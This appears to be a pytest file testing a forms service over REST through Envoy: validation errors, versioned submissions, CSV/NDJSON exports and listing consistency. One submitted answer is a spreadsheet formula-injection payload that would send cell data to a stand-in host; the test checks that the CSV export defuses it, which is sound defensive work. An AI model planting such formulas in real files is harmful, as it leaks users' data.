"""The forms service through a real Envoy: the same errors as gRPC with their HTTP status and JSON
body (code + reason + field violations), and exports streamed as CSV and NDJSON bodies."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import httpx
import pytest

from services.mesh.runner import upstreams_for
from tests.support.forms import forms_world, sample_definition

from .conftest import EdgeFactory

pytestmark = pytest.mark.edge


def reason_of(response: httpx.Response) -> str:
    for detail in response.json().get("details", []):
        if detail.get("@type", "").endswith("google.rpc.ErrorInfo"):
            return str(detail["reason"])
    raise AssertionError(f"no ErrorInfo in {response.text}")


def violations_of(response: httpx.Response) -> set[tuple[str, str]]:
    found = set()
    for detail in response.json().get("details", []):
        if detail.get("@type", "").endswith("google.rpc.BadRequest"):
            found |= {(v["field"], v.get("reason", "")) for v in detail["fieldViolations"]}
    return found


def expect(response: httpx.Response, status: int, reason: str) -> httpx.Response:
    assert response.status_code == status, response.text
    assert reason_of(response) == reason
    return response


async def test_forms_over_rest_bad_input_and_exports(
    db_backend_url: str, tmp_path: Path, edge_factory: EdgeFactory
) -> None:
    async with forms_world(db_backend_url, tmp_path) as fw:
        edge = await edge_factory(upstreams_for(fw.mesh.started, fw.mesh.runtime.settings))
        headers = {"authorization": f"Bearer {fw.world.tokens['admin_a']}", "x-tenant-id": fw.world.tenant_a}
        member = {"authorization": f"Bearer {fw.world.tokens['member_a']}", "x-tenant-id": fw.world.tenant_a}
        async with edge.http_client(headers=headers) as client:
            # Definitions are checked on save: an unknown field in a rule, a computed-field cycle, an invalid schema.
            broken: dict[str, Any] = sample_definition()
            broken["fields"][4]["visibleWhen"] = {"var": "nowhere"}
            response = expect(
                await client.post("/v1/forms", json={"key": "broken", "draft": broken}), 400, "DEFINITION_INVALID"
            )
            assert ("form.draft.fields[4].visibleWhen.var", "RULE_UNKNOWN_FIELD") in violations_of(response)
            cycle = {
                "schema": {"type": "object", "properties": {"a": {"type": "number"}, "b": {"type": "number"}}},
                "fields": [
                    {"key": "a", "type": "FIELD_TYPE_COMPUTED", "compute": {"var": "b"}},
                    {"key": "b", "type": "FIELD_TYPE_COMPUTED", "compute": {"var": "a"}},
                ],
            }
            response = expect(
                await client.post("/v1/forms", json={"key": "c", "draft": cycle}), 400, "DEFINITION_INVALID"
            )
            assert {reason for _, reason in violations_of(response)} == {"RULE_CYCLE"}
            bad_schema = {"schema": {"type": "object", "properties": {"a": {"type": "nope"}}}}
            response = expect(
                await client.post("/v1/forms", json={"key": "s", "draft": bad_schema}), 400, "DEFINITION_INVALID"
            )
            assert "SCHEMA_INVALID" in {reason for _, reason in violations_of(response)}
            expect(await client.post("/v1/forms", json={"key": "svc.form"}), 400, "FORM_KEY_RESERVED")

            # A form with submissions of two versions.
            created = await client.post("/v1/forms", json={"key": "intake", "draft": sample_definition()})
            assert created.status_code == 200, created.text
            expect(await client.post("/v1/forms/intake/submissions", json={"answers": {}}), 400, "FORM_NOT_PUBLISHED")
            # Export of a form with no submissions: a header alone.
            empty = await client.get("/v1/forms/intake/submissions:export")
            assert empty.status_code == 200
            assert empty.text.splitlines()[0].startswith("submission_id,version,status")
            assert len(empty.text.splitlines()) == 1
            published = await client.post("/v1/forms/intake:publish", json={})
            assert published.status_code == 200
            etag = published.json()["form"]["etag"]
            expect(await client.post("/v1/forms/intake:publish", json={"etag": "999"}), 409, "ETAG_MISMATCH")
            expect(await client.get("/v1/forms/intake/versions/7"), 404, "FORM_VERSION_NOT_FOUND")
            expect(
                await client.post("/v1/forms/intake/submissions", json={"version": 9, "answers": {"name": "x"}}),
                404,
                "FORM_VERSION_NOT_FOUND",
            )
            bad_answers = {"name": "x" * 51, "age": 1.5, "extra": True, "total": 3}
            response = expect(
                await client.post("/v1/forms/intake/submissions", json={"answers": bad_answers}), 400, "ANSWERS_INVALID"
            )
            assert violations_of(response) == {
                ("answers.name", "ANSWER_INVALID"),
                ("answers.age", "ANSWER_INVALID"),
                ("answers.extra", "ANSWER_UNKNOWN_FIELD"),
                ("answers.total", "ANSWER_COMPUTED_MISMATCH"),
            }
            expect(
                # %20, not "+": the edge reads query parameters as RFC 3986 percent-encoding.
                await client.get("/v1/submissions?formKey=intake&filter=answers.zip%20%3D%201"),
                400,
                "FILTER_FIELD_UNKNOWN",
            )
            formula = '=HYPERLINK("https://x.test/?"&A1,"open")'
            for name, country in (("Ada", "ID"), ('Bo, "the" second', "NL"), (formula, "NL")):
                answers = {"name": name, "country": country, "items": [{"qty": 1}]}
                sent = await client.post("/v1/forms/intake/submissions", json={"answers": answers}, headers=member)
                assert sent.status_code == 200, sent.text
            changed = sample_definition()
            changed["schema"]["properties"]["phone"] = {"type": "string"}
            changed["fields"].append({"key": "phone", "type": "FIELD_TYPE_PHONE"})
            update = await client.patch(
                "/v1/forms/intake", params={"updateMask": "draft"}, json={"draft": changed, "etag": etag}
            )
            assert update.status_code == 200, update.text
            assert (await client.post("/v1/forms/intake:publish", json={})).status_code == 200
            sent = await client.post(
                "/v1/forms/intake/submissions", json={"answers": {"name": "Cy", "phone": "+62 21"}}, headers=member
            )
            assert sent.json()["submission"]["version"] == 2

            # CSV: a column per field path of any version, values quoted as CSV needs.
            exported = await client.get("/v1/forms/intake/submissions:export", params={"format": "EXPORT_FORMAT_CSV"})
            assert exported.status_code == 200
            assert exported.headers["content-type"].startswith("text/csv")
            rows = list(csv.DictReader(io.StringIO(exported.text)))
            # An answer a spreadsheet would run as a formula is written as text; a phone number is not.
            assert [row["name"] for row in rows] == ["Ada", 'Bo, "the" second', "'" + formula, "Cy"]
            assert [row["version"] for row in rows] == ["1", "1", "1", "2"]
            assert [row["phone"] for row in rows] == ["", "", "", "+62 21"]
            assert json.loads(rows[0]["items"]) == [{"qty": 1}]
            # NDJSON: one object per line.
            exported = await client.get(
                "/v1/forms/intake/submissions:export", params={"format": "EXPORT_FORMAT_NDJSON"}
            )
            assert exported.headers["content-type"].startswith("application/x-ndjson")
            lines = [json.loads(line) for line in exported.text.splitlines()]
            # NDJSON is for programs: every answer exactly as submitted.
            assert [line["answers"]["name"] for line in lines] == ["Ada", 'Bo, "the" second', formula, "Cy"]
            # Members may not export; an archived form takes no submissions.
            refused = await client.get("/v1/forms/intake/submissions:export", headers=member)
            assert refused.status_code == 403
            assert (await client.post("/v1/forms/intake:archive", json={})).status_code == 200
            expect(
                await client.post("/v1/forms/intake/submissions", json={"answers": {"name": "x"}}, headers=member),
                400,
                "FORM_ARCHIVED",
            )


async def test_submission_listings_over_rest_are_the_json_the_edge_printed_of_the_typed_answer(
    db_backend_url: str, tmp_path: Path, edge_factory: EdgeFactory
) -> None:
    """GET /v1/submissions is rendered by the forms service from the stored answers
    (ListSubmissionsJson); REST clients must get the very document the transcoder prints of
    ListSubmissionsResponse (GET /v1/submissions:typed): names, every field, enums by name,
    timestamps to the digit, answers of every shape, paging and errors."""
    async with forms_world(db_backend_url, tmp_path) as fw:
        edge = await edge_factory(upstreams_for(fw.mesh.started, fw.mesh.runtime.settings))
        admin = {"authorization": f"Bearer {fw.world.tokens['admin_a']}", "x-tenant-id": fw.world.tenant_a}
        member = {"authorization": f"Bearer {fw.world.tokens['member_a']}", "x-tenant-id": fw.world.tenant_a}
        async with edge.http_client(headers=admin) as client:
            assert (await client.post("/v1/forms", json={"key": "intake", "draft": sample_definition()})).is_success
            assert (await client.post("/v1/forms/intake:publish", json={})).is_success
            sent = [
                ({"name": "Ada", "country": "ID", "age": 2**40, "items": [{"qty": 1}, {"qty": 2}]}, member),
                ({"name": 'Bo, "the" second \\ Ünïcode 😀', "country": "ID", "start": "2026-01-02"}, member),
                ({"name": "Cy", "country": "NL", "start": "2026-01-02", "end": "2026-02-03", "items": []}, admin),
                ({"name": "Di\n\ttab", "country": "ID", "age": 0}, admin),
            ]
            for answers, who in sent:
                response = await client.post("/v1/forms/intake/submissions", json={"answers": answers}, headers=who)
                assert response.is_success, response.text
            submission_id = response.json()["submission"]["submissionId"]
            reviewed = await client.patch(
                f"/v1/submissions/{submission_id}:review",
                params={"updateMask": "status,note"},
                json={"status": "SUBMISSION_STATUS_ACCEPTED", "note": "ok ✓"},
            )
            assert reviewed.is_success, reviewed.text

            async def both(params: dict[str, Any], headers: dict[str, str]) -> dict[str, Any]:
                rendered = await client.get("/v1/submissions", params=params, headers=headers)
                transcoded = await client.get("/v1/submissions:typed", params=params, headers=headers)
                assert (rendered.status_code, transcoded.status_code) == (200, 200), rendered.text + transcoded.text
                assert rendered.headers["content-type"] == transcoded.headers["content-type"] == "application/json"
                assert rendered.json() == transcoded.json()
                document: dict[str, Any] = rendered.json()
                return document

            everything = await both({"formKey": "intake"}, admin)
            assert len(everything["submissions"]) == 4
            assert everything["nextPageToken"] == ""
            every_field = {
                "submissionId", "formKey", "version", "answers", "status", "submitter",
                "note", "revisionCount", "createTime", "updateTime", "etag",
            }  # fmt: skip
            assert all(set(submission) == every_field for submission in everything["submissions"])
            assert {s["status"] for s in everything["submissions"]} == {
                "SUBMISSION_STATUS_SUBMITTED",
                "SUBMISSION_STATUS_ACCEPTED",
            }
            # A member sees their own only; a filter on an answer and pages of two.
            assert len((await both({"formKey": "intake"}, member))["submissions"]) == 2
            first = await both({"formKey": "intake", "filter": 'answers.country = "ID"', "pageSize": 2}, admin)
            assert len(first["submissions"]) == 2
            assert first["nextPageToken"]
            rest = await both(
                {
                    "formKey": "intake",
                    "filter": 'answers.country = "ID"',
                    "pageSize": 2,
                    "pageToken": first["nextPageToken"],
                },
                admin,
            )
            assert [s["answers"]["name"] for s in first["submissions"] + rest["submissions"]] == [
                "Di\n\ttab",
                'Bo, "the" second \\ Ünïcode 😀',
                "Ada",
            ]
            assert rest["submissions"][-1]["answers"]["total"] == 3

            for params in ({"formKey": "intake", "filter": "answers.zip = 1"}, {"filter": 'answers.country = "ID"'}):
                rendered = await client.get("/v1/submissions", params=params)
                transcoded = await client.get("/v1/submissions:typed", params=params)
                assert rendered.status_code == transcoded.status_code == 400
                assert rendered.json() == transcoded.json()
